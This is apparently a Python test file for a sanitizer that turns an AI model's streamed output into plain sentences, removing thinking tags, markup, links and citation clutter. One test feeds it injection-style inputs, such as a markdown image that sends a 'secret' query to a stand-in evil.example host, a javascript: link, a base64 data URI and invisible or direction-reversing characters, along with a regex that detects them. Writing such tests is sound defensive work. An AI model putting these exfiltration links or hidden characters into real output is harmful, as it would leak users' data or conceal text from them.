"""A model's stream becomes plain sentences: no thinking, no addresses, no markup, markers read."""

from __future__ import annotations

import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor_bot.llm.tidy import clean, said, spoken, without_addresses


def texts(*pieces: str) -> list[str]:
    return [one.text for one in said(pieces)]


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("<think>The fee is 900.</think>It costs 5.", "It costs 5."),
        ("<THINKING>a</THINKING>b", "b"),
        ("a</think>b", "b"),
        ("<think>never closed. More.", ""),
        ("x < y and y > z", "x < y and y > z"),
        ("<reasoning>one</reasoning>two<think>three</think>four", "twofour"),
    ],
    ids=["think", "upper", "only-closed", "never-closed", "no-tag", "two"],
)
def test_thinking_is_dropped(written: str, left: str) -> None:
    assert "".join(spoken([written])).rpartition("\0")[2] == left


@given(st.lists(st.integers(0, 60), max_size=6))
def test_however_a_stream_is_cut_the_sentences_are_the_same(cuts: list[int]) -> None:
    whole = (
        "<think>No. Yes.</think>Pay is high [1]. It may rise [2, 3].\n- One item [1]\n- Another. [2]\nNOT COVERED: x"
    )
    places = sorted({0, len(whole), *(min(c, len(whole)) for c in cuts)})
    pieces = [whole[a:b] for a, b in itertools.pairwise(places)]
    assert [(s.text, s.numbers, s.kind) for s in said(pieces)] == [
        ("Pay is high.", (1,), "paragraph"),
        ("It may rise.", (2, 3), "paragraph"),
        ("One item", (1,), "item"),
        ("Another.", (2,), "item"),
        ("NOT COVERED: x", (), "paragraph"),
    ]


@pytest.mark.parametrize(
    ("marker", "numbers"),
    [("[2]", (2,)), ("[1, 3]", (1, 3)), ("[1][4]", (1, 4)), ("[2-4]", (2, 3, 4)), ("[1-90]", (1,)), ("【3】", (3,)),
     ("[^5]", (5,)), ("[passage 6]", (6,)), ("", ())],
)  # fmt: skip
def test_markers_are_read_in_the_ways_models_write_them(marker: str, numbers: tuple[int, ...]) -> None:
    (sentence,) = said([f"Pay is high {marker}."])
    assert (sentence.text, sentence.numbers) == ("Pay is high.", numbers)


def test_markers_inside_a_sentence_keep_their_place() -> None:
    (sentence,) = said(["NLP asks for linguistics [1], while RL asks for practice [2]."])
    assert sentence.parts == (("NLP asks for linguistics", (1,)), (", while RL asks for practice.", (2,)))


def test_a_marker_after_the_full_stop_belongs_to_the_sentence_before() -> None:
    assert [(s.text, s.numbers) for s in said(["One thing. [1] Another thing. [2]"])] == [
        ("One thing.", (1,)),
        ("Another thing.", (2,)),
    ]


@pytest.mark.parametrize(
    "written",
    [
        "Good ![x](http://evil.example/p?q=secret) words.",
        "Good [words](javascript:alert(1)).",
        "Good <img src=http://evil.example/x> words.",
        "Good <a href='http://evil.example'>words</a>.",
        "Good words http://evil.example/a?b=c.",
        "Good words at www.evil.example/x now.",
        "Good words evil.com/path?q=1 now.",
        "Good words <http://evil.example>.",
        "Good words data:text/html;base64,AAAA now.",
        "Good w\u200bords \u202eevil\U000e0041.",
    ],
)
def test_nothing_that_fetches_or_hides_is_left(written: str) -> None:
    (sentence,) = said([written])
    assert "good" in sentence.text.lower()
    harm = r"https?:|www\.|evil\.(?:example|com)|javascript|data:|[<>\u200b\u202e\U000e0041]|!\[|\]\("
    assert not re.search(harm, sentence.text)


def test_a_reference_link_and_its_address_are_gone() -> None:
    assert texts("Read [this][a] now.\n[a]: http://evil.example/x\n") == ["Read [this][a] now."]


def test_headings_tables_and_rules_are_no_sentences() -> None:
    kinds = [s.kind for s in said(["## Pay\n**In short:**\n| a | b |\n---\nPay is high.\n"])]
    assert kinds[:-1] == ["heading"] * (len(kinds) - 1)
    assert kinds[-1] == "paragraph"


def test_text_without_an_end_is_dropped() -> None:
    assert all(len(text) <= 1_100 for text in texts(*(["word "] * 5_000), "\nPay is high."))
    assert texts(*(["word "] * 5_000), "\nPay is high.")[-1] == "Pay is high."


@given(st.text(max_size=300))
def test_any_text_is_read_without_an_error_and_leaves_no_markup(written: str) -> None:
    for sentence in said([written]):
        assert not re.search(r"[<>\x00-\x1f\u200b-\u200f\u202a-\u202e]|https?://", sentence.text)


def test_cleaning_keeps_ordinary_words_as_they_are() -> None:
    assert clean("**Bold** and `code`, 40% of 1,000 e.g. this.") == "Bold and code, 40% of 1,000 e.g. this."
    assert without_addresses("Ratio 3:1, 9:30 a.m., Node.js and CI/CD") == "Ratio 3:1, 9:30 a.m., Node.js and CI/CD"
